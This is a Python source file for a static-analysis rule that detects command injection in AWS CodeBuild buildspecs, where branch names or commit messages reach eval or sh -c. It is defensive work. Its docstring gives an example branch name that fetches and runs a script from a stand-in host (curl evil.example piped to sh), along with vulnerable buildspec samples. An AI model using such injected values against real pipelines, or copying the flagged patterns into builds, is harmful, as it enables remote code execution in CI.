"""Text that a stranger chooses becomes part of a program that the build runs.

A pull request's branch may be called `x$(curl${IFS}evil.example|sh)`: Git allows it. A double-quoted `"$VAR"` is safe
as the word of a command. Inside of what `eval` or `sh -c` gets, it is not: the shell puts the name in, and then runs
what came out, as the build's role.

## Examples

```yaml title="buildspec.yml"
version: 0.2
phases:
  build:
    commands:
      - bash -c "make deploy REF=$CODEBUILD_WEBHOOK_HEAD_REF"  # finding
```

Leave it to the inner shell to expand it, in quotes, or do without the inner shell:

```yaml title="buildspec.yml"
version: 0.2
phases:
  build:
    commands:
      - bash -c 'make deploy REF="$CODEBUILD_WEBHOOK_HEAD_REF"'
      - make deploy REF="$CODEBUILD_WEBHOOK_HEAD_REF"
```

It is the same text under another name, and so is that of a commit:

```yaml title="buildspec.yml"
version: 0.2
phases:
  pre_build:
    commands:
      - export BRANCH=$(echo $CODEBUILD_WEBHOOK_HEAD_REF | cut -d/ -f3-)  # because
      - MESSAGE=$(git log -1 --pretty=%B)  # because
  build:
    commands:
      - eval "./notify.sh --branch $BRANCH"  # finding
      - python3 -c "import notify; notify.send('''$MESSAGE''')"  # finding
```

A commit id is only hexadecimal digits:

```yaml title="buildspec.yml"
version: 0.2
phases:
  build:
    commands:
      - bash -c "docker build -t app:$CODEBUILD_RESOLVED_SOURCE_VERSION ."
      - echo "Building $CODEBUILD_WEBHOOK_HEAD_REF"
```

## Exceptions

Silent on variables that are unquoted in other commands: Git allows no blanks and no wildcards in the names of branches
and tags, so that they stay one word. Silent in `if`, `case` and after `&&`, where the text may have been looked at, on
texts that were edited on their way (`sed`, `tr`, `${X//…}`), and on `CODEBUILD_SOURCE_VERSION` where no webhook is in
view. The fix is not a safe one: without quotes of its own the inner shell still splits the text.

## References

- CodeBuild user guide, "Environment variables in build environments"
- git-check-ref-format manual page
- CWE-78: improper neutralization of special elements used in an OS command
"""

from __future__ import annotations

from collections.abc import Iterator

from cblint.analysis import untrusted_texts
from cblint.model.build import Build
from cblint.pattern import pattern
from cblint.rule import Chain, Confidence, Context, Finding, Fix, Fixable, Kind, Severity, Step, rule
from cblint.value import string

_RUNS_TEXT = pattern(r"\beval\b|\s-\w*[cer]\b|\.(?:sh|bash)\b")


@rule(
    visits=Build,
    kind=Kind.SECURITY,
    severity=Severity.HIGH,
    confidence=Confidence.HIGH,
    cwe=78,
    fix=Fixable.UNSAFE,
)
def unquoted_untrusted_variable(build: Build, context: Context) -> Iterator[Finding]:
    """Report each place where a stranger's text becomes code."""
    phases = build.buildspec.phases if build.buildspec is not None else ()
    if not any(_RUNS_TEXT.search(string(command.text) or "") for phase in phases for command in phase.commands):
        return
    for each in untrusted_texts.untrusted_texts(context.workspace, build):
        steps = [*each.text.steps]
        if each.assigned is not None:
            steps.append(Step(each.assigned, f"`{each.part.name}` takes the text of `{each.name}` over"))
        yield context.finding(
            each.part.span,
            f"The text of `{each.name}` becomes part of what `{each.runner}` runs",
            symbol=each.text.symbol or each.part.span.path,
            evidence=[Chain("where the text comes from", tuple(steps))] if steps else [],
            fix=Fix("Let the inner shell expand it", each.edits, safe=False) if each.edits else None,
        )
